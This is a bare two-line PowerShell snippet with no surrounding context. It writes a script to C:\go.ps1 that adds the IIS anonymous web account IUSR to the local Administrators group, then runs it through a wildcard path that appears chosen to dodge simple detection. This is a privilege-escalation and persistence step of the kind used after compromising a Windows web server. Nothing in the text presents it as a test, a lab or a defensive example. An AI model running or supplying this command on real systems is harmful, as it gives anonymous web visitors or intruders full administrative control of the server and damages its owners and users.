Set-Content C:\go.ps1 'net localgroup Administrators IUSR /add'
& (Resolve-Path C:\g*.ps1).Path
